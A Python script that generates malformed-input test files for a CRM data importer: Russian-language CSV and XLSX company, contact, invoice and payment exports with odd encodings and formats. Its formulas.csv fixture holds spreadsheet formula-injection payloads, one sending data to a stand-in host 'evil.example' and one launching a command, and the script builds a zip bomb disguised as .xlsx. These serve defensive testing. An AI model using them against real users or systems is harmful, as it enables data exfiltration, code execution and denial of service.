"""Writes the bad-input files of tests/imports/files (run once; the files are committed, this says how they
were made): `python tests/imports/files/make_files.py`."""

import csv
import datetime as dt
import io
import pathlib
import zipfile

import openpyxl

HERE = pathlib.Path(__file__).parent
NBSP = "\u00a0"

HEADER = "Название;ИНН;КПП;Ответственный;Выручка;Дата договора"
ROWS = [
    f"ООО «Ромашка»;7707083893;770701001;Смирнова Ольга;1{NBSP}234{NBSP}567,89;31.12.2025",
    "АО «Вектор»;7736207543;;Петров Иван;12 500;01.02.2024",
    "ИП Соколов А.В.;500100732259;;Смирнова Ольга;0,5;2024-03-15",
]


def write(name: str, data: bytes) -> None:
    (HERE / name).write_bytes(data)


def main() -> None:
    text = "\r\n".join([HEADER, *ROWS, ";;;;;", ""])  # Excel's line ends and a trailing empty row
    write("accounts_cp1251.csv", text.encode("cp1251"))
    comma = "\n".join(
        [
            "Account Name,INN,Account Owner,Billing Address",
            '"Romashka, LLC",7707083893,olga@example.com,"Moscow,\nTverskaya 1"',
            "Vector JSC,7736207543,ivan,",
            "",
        ]
    )
    write("accounts_utf8_bom.csv", b"\xef\xbb\xbf" + comma.encode("utf-8"))
    write("accounts_tab.csv", "Название\tИНН\nРомашка\t7707083893\n".encode())
    mixed = "\n".join([HEADER, ROWS[0], "АО «Вектор»,7736207543,,Петров Иван,12 500,01.02.2024", ROWS[2], ""])
    write("mixed_delimiters.csv", mixed.encode("utf-8"))
    broken = "\n".join([HEADER, ROWS[0], '"АО Вектор;7736207543;;Петров Иван;12 500;01.02.2024', ROWS[2], ""])
    write("broken_row.csv", broken.encode("utf-8"))
    write("empty.csv", b"")
    write("header_only.csv", (HEADER + "\r\n").encode("cp1251"))
    write("ten_thousand_columns.csv", (";".join(f"c{i}" for i in range(10_000)) + "\n").encode())
    dates = "\n".join(["Название;Дата", "А;31.12.2025", "Б;2025-12-31", "В;46022", "Г;12/31/2024", ""])
    write("dates_three_formats.csv", dates.encode("utf-8"))
    formulas = io.StringIO()
    writer = csv.writer(formulas, delimiter=";", lineterminator="\r\n")  # quoted as Excel writes them
    writer.writerows(
        [
            ["Название", "ИНН"],
            ['=HYPERLINK("http://evil.example/?"&A1;"Нажми")', "7707083893"],
            ["@SUM(1+1)", "7736207543"],
            ["+cmd|' /C calc'!A0", "7736207543"],
        ]
    )
    write("formulas.csv", formulas.getvalue().encode("utf-8"))
    exports(write)
    money(write)
    contact_exports(write)
    write("not_a_spreadsheet.xlsx", b"%PDF-1.4\n% this is a PDF renamed to .xlsx\n")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (300 * 1024 * 1024))
    write("zip_bomb.xlsx", bomb.getvalue())
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Клиенты"
    sheet.append(["Выгрузка клиентов на 01.12.2026"])
    sheet.append([])
    sheet.append(["Компания", None, "Контакт", None, "Ответственный", "Дата договора"])
    sheet.merge_cells("A3:B3")
    sheet.merge_cells("C3:D3")
    sheet.append(["Название", "ИНН", "Имя", "Телефон", None])

    sheet.append(
        [
            "ООО «Ромашка»",
            "7707083893",
            "Ольга",
            "+7 495 123-45-67",
            "Смирнова Ольга",
            dt.date(2025, 12, 31),  # a date cell (XLSX keeps no time zone)
        ]
    )
    sheet.append(["АО «Вектор»", 7736207543, "Иван", None, "Петров Иван", 46022, None, None])
    sheet.append([None, None, None])
    sheet.cell(row=8, column=12, value=None)
    book.save(HERE / "merged_header.xlsx")


def exports(write) -> None:
    """Company exports shaped like amoCRM's, Bitrix24's and Salesforce's (their headers and habits: amoCRM
    and Bitrix24 write CSV in UTF-8 with a BOM and ";", Salesforce's report export is UTF-8 with ",")."""
    amo = [
        [
            "ID",
            "Название компании",
            "Ответственный",
            "Дата создания",
            "Кем создан",
            "Теги",
            "Рабочий телефон",
            "ИНН",
            "КПП",
        ],
        [
            "1042",
            "ООО «Ромашка»",
            "Смирнова Ольга",
            "12.03.2024 10:15:00",
            "Смирнова Ольга",
            "опт",
            "+7 495 123-45-67",
            "7707083893",
            "770701001",
        ],
        [
            "1043",
            "ИП Соколов А.В.",
            "Петров Иван",
            "01.04.2024 09:00:00",
            "Петров Иван",
            "",
            "",
            "500100732259",
            "",
        ],
    ]
    bitrix = [
        [
            "ID",
            "Название компании",
            "Тип компании",
            "Сфера деятельности",
            "Ответственный",
            "Годовой оборот",
            "ИНН",
            "КПП",
        ],
        [
            "17",
            "АО «Вектор»",
            "Клиент",
            "Информационные технологии",
            "Петров Иван",
            "12 500 000",
            "7736207543",
            "773601001",
        ],
        ["18", "ООО «Заря»", "Потенциальный клиент", "Производство", "", "", "7712345671", "771201001"],
    ]
    salesforce = [
        [
            "Account ID",
            "Account Name",
            "Parent Account ID",
            "Account Owner",
            "Type",
            "Industry",
            "INN__c",
            "KPP__c",
        ],
        [
            "0015g00000AbCdE",
            "Holding Group JSC",
            "",
            "olga@example.com",
            "Customer",
            "Retail",
            "7728168971",
            "772801001",
        ],
        [
            "0015g00000AbCdF",
            "Holding Retail LLC",
            "0015g00000AbCdE",
            "olga@example.com",
            "Customer",
            "Retail",
            "7702070139",
            "770201001",
        ],
    ]
    for name, rows, delimiter in (
        ("amocrm_companies.csv", amo, ";"),
        ("bitrix24_companies.csv", bitrix, ";"),
        ("salesforce_accounts.csv", salesforce, ","),
    ):
        out = io.StringIO()
        csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
        bom = b"\xef\xbb\xbf" if delimiter == ";" else b""
        write(name, bom + out.getvalue().encode("utf-8"))


def contact_exports(write) -> None:
    """Contact exports shaped like amoCRM's (UTF-8 with a BOM, ";"; the company by name, no INN), Bitrix24's
    (Windows-1251, ";"; a patronymic, a mobile beside the work phone) and Salesforce's (UTF-8, ","; the account
    by its Salesforce id and name), and a touches history with Russian headers."""
    amo = [
        [
            "ID",
            "Полное имя",
            "Имя",
            "Фамилия",
            "Компания",
            "Должность",
            "Рабочий телефон",
            "Рабочий email",
            "Ответственный",
            "Дата создания",
            "Теги",
        ],
        [
            "501",
            "Анна Кузнецова",
            "Анна",
            "Кузнецова",
            "ООО «Ромашка»",
            "Главный бухгалтер",
            "8 (495) 123-45-67",
            "anna@romashka.ru",
            "Смирнова Ольга",
            "12.03.2024 10:15:00",
            "лпр",
        ],
        [
            "502",
            "Олег Сидоров",
            "Олег",
            "Сидоров",
            "Ромашка",
            "Закупщик",
            "",
            "OLEG@romashka.ru",
            "Смирнова Ольга",
            "13.03.2024 11:00:00",
            "",
        ],
    ]
    bitrix = [
        [
            "ID",
            "Имя",
            "Отчество",
            "Фамилия",
            "Должность",
            "Рабочий телефон",
            "Мобильный телефон",
            "Рабочий e-mail",
            "Компания",
            "Ответственный",
        ],
        [
            "77",
            "Пётр",
            "Ильич",
            "Морозов",
            "Директор",
            "+7 (812) 555-12-34",
            "",
            "morozov@vector.ru",
            "АО «Вектор»",
            "Петров Иван",
        ],
        ["78", "Мария", "", "Белова", "Секретарь", "", "+7 916 000-11-22", "", "АО «Вектор»", "Петров Иван"],
    ]
    salesforce = [
        [
            "Contact ID",
            "First Name",
            "Last Name",
            "Title",
            "Email",
            "Phone",
            "Account ID",
            "Account Name",
            "Contact Owner",
            "Mailing City",
        ],
        [
            "0035g00000XyZaA",
            "Helen",
            "Grant",
            "CFO",
            "helen.grant@holding.example",
            "+7 495 765-43-21",
            "0015g00000AbCdE",
            "Holding Group JSC",
            "olga@example.com",
            "Moscow",
        ],
    ]
    for name, rows, delimiter, encoding, bom in (
        ("amocrm_contacts.csv", amo, ";", "utf-8", b"\xef\xbb\xbf"),
        ("bitrix24_contacts.csv", bitrix, ";", "cp1251", b""),
        ("salesforce_contacts.csv", salesforce, ",", "utf-8", b""),
    ):
        out = io.StringIO()
        csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
        write(name, bom + out.getvalue().encode(encoding))
    touches = [
        ["ИНН", "Дата", "Тип", "Ответственный", "Длительность, мин", "Тема", "Результат"],
        ["7707083893", "15.03.2025 10:30", "Звонок", "Смирнова Ольга", "15", "Продление", "Ждут КП"],
        ["7707083893", "2025-03-20T14:00:00", "Встреча", "olga@example.com", "1:30", "КП", "Согласовали"],
        ["7736207543", "01.04.2025", "письмо", "Петров Иван", "5", "Счёт", ""],
    ]
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(touches)
    write("touches.csv", out.getvalue().encode("utf-8"))


if __name__ == "__main__":
    main()


def money(write) -> None:
    """The money imports' samples: invoice lines as 1C writes them (Windows-1251, ";", Russian headers, one
    row per line, a credit note correcting an invoice, an Excel serial date), a bank's payments, and the
    ownership history of an old CRM as XLSX (date cells, a handover written both ways)."""
    invoices = [
        "Номер;Дата;ИНН контрагента;КПП контрагента;Валюта;Номенклатура;Количество;Цена;Сумма;Ставка НДС;"
        "Сумма НДС;Вид документа;Корректирует счёт",
        f"СЧ-101;15.01.2026;7707083893;770701001;RUB;R-1;2;1{NBSP}000,00;2{NBSP}000,00;22%;440,00;Счёт;",
        "СЧ-102;46056;7736207543;773601001;руб.;Cable;10;10;100,00;22%;22,00;Счёт;",
        "СЧ-101;15.01.2026;7707083893;770701001;RUB;Монтаж оборудования;1;5 000,00;5 000,00;Без НДС;0;Счёт;",
        "КР-1;20.01.2026;7707083893;770701001;RUB;R-1;-1;1 000,00;-1 220,00;22%;-220,00;Корректировка;СЧ-101",
        ";;;;;;;;;;;;",
    ]
    write("invoices_1c.csv", "\r\n".join([*invoices, ""]).encode("cp1251"))
    payments = [
        "Дата;Номер п/п;ИНН;Сумма;Валюта;Счёт",
        "20.01.2026;501;7707083893;3 000,00;RUB;СЧ-101",
        "05.02.2026;502;7736207543;200,00;RUB;СЧ-102",
        "10.02.2026;503;7707083893;1 000,00;RUB;",
    ]
    write("payments.csv", "\n".join([*payments, ""]).encode("utf-8"))
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["ИНН", "Ответственный", "С", "По"])
    sheet.append(["7707083893", "Петров Иван", dt.date(2023, 1, 1), dt.date(2024, 6, 30)])
    sheet.append(["7736207543", "Смирнова Ольга", dt.date(2024, 1, 1), dt.date(2025, 3, 31)])
    sheet.append([7707083893, "olga@example.com", dt.date(2024, 7, 1), None])  # the day after: a handover
    sheet.append(["7736207543", "Петров Иван", dt.date(2025, 3, 31), None])  # on the "to" day: one too
    book.save(HERE / "ownership.xlsx")
